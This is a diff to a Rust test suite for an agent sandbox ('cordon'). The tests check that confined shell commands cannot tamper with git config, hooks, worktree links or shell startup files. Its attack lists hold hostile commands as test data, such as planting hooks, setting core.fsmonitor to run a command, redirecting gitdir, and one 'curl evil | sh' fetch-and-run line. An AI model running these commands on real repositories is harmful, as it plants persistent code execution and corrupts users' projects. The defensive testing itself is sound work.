@@ -36,6 +36,14 @@ fn repository(dir: &Path) {
     std::fs::write(dir.join(".bashrc"), "# mine\n").unwrap();
 }
 
+/// Run each of `attacks` in `root` with `args`: every one must fail.
+fn each_refused(root: &Path, args: &[&str], backend: &[&str], attacks: &[&str]) {
+    for attack in attacks {
+        let (code, result) = run_json(root, args, attack);
+        assert_ne!(code, 0, "{backend:?}: {attack}: {result}");
+    }
+}
+
 /// `--grant` for `policy`.
 fn grant_args<'a>(backend: &[&'a str], policy: &'a str) -> Vec<&'a str> {
     let mut args = backend.to_vec();
@@ -82,7 +90,13 @@ fn in_workspace_write_the_protected_paths_hold_and_git_still_works() {
         let partial = result["grant"]["partial"].to_string();
         assert!(!partial.contains("protected"), "{backend:?}: {partial}");
         let protected = result["grant"]["protected"].to_string();
-        for path in [".git", ".bashrc", ".profile", ".cordon"] {
+        for path in [
+            ".git/config",
+            ".git/hooks",
+            ".bashrc",
+            ".profile",
+            ".cordon",
+        ] {
             assert!(
                 protected.contains(&format!("/{path}\"")),
                 "{path}: {protected}"
@@ -94,23 +108,25 @@ fn in_workspace_write_the_protected_paths_hold_and_git_still_works() {
         std::fs::write(&outside, "mine\n").unwrap();
         std::fs::set_permissions(&outside, std::fs::Permissions::from_mode(0o644)).unwrap();
 
-        for attack in [
-            "echo '[core] hooksPath = /tmp' >> .git/config",
-            "printf '#!/bin/sh\\nexit 0\\n' > .git/hooks/pre-commit",
-            "mv .git .git-away",
-            "rm -rf .git",
-            "echo evil >> .bashrc",
-            "mkdir .cordon",
-            "echo evil > .profile",
-            "ln -s /tmp .git/hooks/pre-push",
-            "ln tracked.txt .git/hooks/post-checkout",
-            "chmod 0777 .git/config",
-            "touch -d 2001-01-01 .git/HEAD",
-            &format!("chmod 0777 {}", outside.display()),
-        ] {
-            let (code, result) = run_json(root, &args, attack);
-            assert_ne!(code, 0, "{backend:?}: {attack}: {result}");
-        }
+        each_refused(
+            root,
+            &args,
+            backend,
+            &[
+                "echo '[core] hooksPath = /tmp' >> .git/config",
+                "printf '#!/bin/sh\\nexit 0\\n' > .git/hooks/pre-commit",
+                "mv .git .git-away",
+                "rm -rf .git/hooks",
+                "echo evil >> .bashrc",
+                "mkdir .cordon",
+                "echo evil > .profile",
+                "ln -s /tmp .git/hooks/pre-push",
+                "ln tracked.txt .git/hooks/post-checkout",
+                "chmod 0777 .git/config",
+                "touch -d 2001-01-01 .git/hooks",
+                &format!("chmod 0777 {}", outside.display()),
+            ],
+        );
         let mode = std::fs::metadata(&outside).unwrap().permissions().mode();
         std::fs::remove_file(&outside).unwrap();
         assert_eq!(mode & 0o777, 0o644, "{backend:?}: chmod outside landed");
@@ -121,6 +137,7 @@ fn in_workspace_write_the_protected_paths_hold_and_git_still_works() {
         );
         assert!(!root.join(".git/hooks/pre-commit").exists());
         assert!(root.join(".git/HEAD").is_file() && !root.join(".git-away").exists());
+        assert!(root.join(".git/hooks").is_dir());
         assert_eq!(
             std::fs::read_to_string(root.join(".bashrc")).unwrap(),
             "# mine\n"
@@ -132,21 +149,106 @@ fn in_workspace_write_the_protected_paths_hold_and_git_still_works() {
     }
 }
 
+/// The shell line of an agent's day in git: add, commit, a branch, a
+/// stash, a rebase and a merge.
+const AGENT_GIT: &str = "export GIT_AUTHOR_NAME=agent GIT_AUTHOR_EMAIL=agent@cordon.invalid \
+     GIT_COMMITTER_NAME=agent GIT_COMMITTER_EMAIL=agent@cordon.invalid GIT_EDITOR=true && \
+     git checkout -q -b feature && echo a > a.txt && git add a.txt && git commit -qm a && \
+     git checkout -q - && echo b > b.txt && git add b.txt && git commit -qm b && \
+     echo wip >> tracked.txt && git stash -q && git stash pop -q && git commit -qam wip && \
+     git checkout -q feature && git rebase -q - && git checkout -q - && \
+     git merge -q --no-edit feature && git tag agent-done && git log --format=%s";
+
+#[test]
+fn an_agent_commits_its_work_and_git_code_stays_read_only_at_any_depth() {
+    for (backend, _) in confined_backends("an_agent_commits_its_work") {
+        let ws = workspace();
+        let root = ws.path();
+        repository(root);
+        let nested = root.join("vendor/lib");
+        std::fs::create_dir_all(&nested).unwrap();
+        repository(&nested);
+        git(root, &["worktree", "add", "-q", "wt"]);
+        let before = |path: &str| std::fs::read(root.join(path)).ok();
+        let kept = [
+            ".git/config",
+            ".git/worktrees/wt/commondir",
+            "wt/.git",
+            "vendor/lib/.git/config",
+        ]
+        .map(|path| (path, before(path)));
+        let args = workspace_write(backend, root.to_str().unwrap());
+
+        // Positive control: the day's git works, and lands on the host.
+        let (code, result) = run_json(root, &args, AGENT_GIT);
+        assert_eq!(code, 0, "{backend:?}: {result}");
+        let log = std::process::Command::new("git")
+            .current_dir(root)
+            .args(["log", "--format=%s", "agent-done"])
+            .output()
+            .unwrap();
+        let log = String::from_utf8_lossy(&log.stdout);
+        for subject in ["a", "b", "wip", "one"] {
+            assert!(log.lines().any(|l| l == subject), "{backend:?}: {log}");
+        }
+
+        each_refused(
+            root,
+            &args,
+            backend,
+            &[
+                "echo '[core]\n\tfsmonitor = touch /tmp/pwned' >> .git/config",
+                "printf '#!/bin/sh\\nexit 0\\n' > .git/hooks/pre-commit",
+                "printf '#!/bin/sh\\nexit 0\\n' > vendor/lib/.git/hooks/pre-commit",
+                "echo '[core]\n\thooksPath = /tmp' >> vendor/lib/.git/config",
+                "echo '* filter=evil' > .git/info/attributes",
+                "echo ../../evil > .git/commondir",
+                "echo /tmp > .git/worktrees/wt/commondir",
+                "echo 'gitdir: /tmp' > wt/.git",
+                "mv .git .git-away",
+                "mv vendor vendor-away",
+                "mv vendor/lib/.git vendor/lib/.git-away",
+                "rm -rf vendor/lib/.git/hooks",
+            ],
+        );
+        for (path, was) in &kept {
+            assert_eq!(&before(path), was, "{backend:?}: {path} changed");
+        }
+        for planted in [
+            ".git/hooks/pre-commit",
+            "vendor/lib/.git/hooks/pre-commit",
+            ".git/info/attributes",
+            ".git/commondir",
+            ".git-away",
+            "vendor-away",
+        ] {
+            assert!(!root.join(planted).exists(), "{backend:?}: {planted}");
+        }
+        assert!(root.join("vendor/lib/.git/hooks").is_dir());
+        assert!(!Path::new("/tmp/pwned").exists());
+        // The placeholders git reads are gone, and git reads the host as it was.
+        git(root, &["status", "--short"]);
+        git(&nested, &["status", "--short"]);
+    }
+}
+
 #[test]
 fn where_git_was_absent_git_init_cannot_plant_a_hook() {
     for (backend, _) in confined_backends("where_git_was_absent_git_init_cannot_plant_a_hook") {
         let ws = workspace();
         let root = ws.path();
         let args = workspace_write(backend, root.to_str().unwrap());
-        for attack in [
-            "git init -q . ; mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/pre-commit",
-            "mkdir elsewhere && mv elsewhere .git",
-            "ln -s /tmp .git",
-            "printf 'exit 0' > .bashrc",
-        ] {
-            let (code, result) = run_json(root, &args, attack);
-            assert_ne!(code, 0, "{backend:?}: {attack}: {result}");
-        }
+        each_refused(
+            root,
+            &args,
+            backend,
+            &[
+                "git init -q . ; mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/pre-commit",
+                "mkdir elsewhere && mv elsewhere .git",
+                "ln -s /tmp .git",
+                "printf 'exit 0' > .bashrc",
+            ],
+        );
         assert!(
             !root.join(".git").exists() && !root.join(".git").is_symlink(),
             "{backend:?}: a .git was left on the host"
@@ -268,6 +370,37 @@ fn with_config(dir: &Path, config: &str, policy: &Value, command: &str) -> (i32,
         &["--config", file.to_str().unwrap(), "--grant", &policy],
         command,
     )
+}
+
+#[test]
+fn the_narrow_git_grant_lifts_the_hooks_and_keeps_the_config() {
+    for (backend, _) in confined_backends("the_narrow_git_grant") {
+        let ws = workspace();
+        let root = ws.path().join("ws");
+        std::fs::create_dir_all(&root).unwrap();
+        repository(&root);
+        let config = std::fs::read(root.join(".git/config")).unwrap();
+        let file = ws.path().join("cordon.toml");
+        std::fs::write(&file, "liftable_protected = [\".git/hooks\"]\n").unwrap();
+        let policy = json!({
+            "mode": "workspace-write", "workspaceRoot": root, "unprotected": [".git/hooks"],
+        })
+        .to_string();
+        let mut args = backend.to_vec();
+        args.extend(["--config", file.to_str().unwrap(), "--grant", &policy]);
+        let line = "printf '#!/bin/sh\\n' > .git/hooks/pre-commit";
+        let (code, result) = run_json(&root, &args, line);
+        assert_eq!(code, 0, "{backend:?}: {result}");
+        assert!(root.join(".git/hooks/pre-commit").is_file());
+        let (code, result) = run_json(&root, &args, "echo '[x]' >> .git/config");
+        assert_ne!(code, 0, "{backend:?}: {result}");
+        assert_eq!(std::fs::read(root.join(".git/config")).unwrap(), config);
+        // Not liftable by the operator: the grant is refused, naming it.
+        std::fs::write(&file, "").unwrap();
+        let (code, result) = run_json(&root, &args, "true");
+        assert_ne!(code, 0, "{backend:?}: {result}");
+        assert_eq!(result["error"]["code"], "INVALID_REQUEST", "{result}");
+    }
 }
 
 #[test]
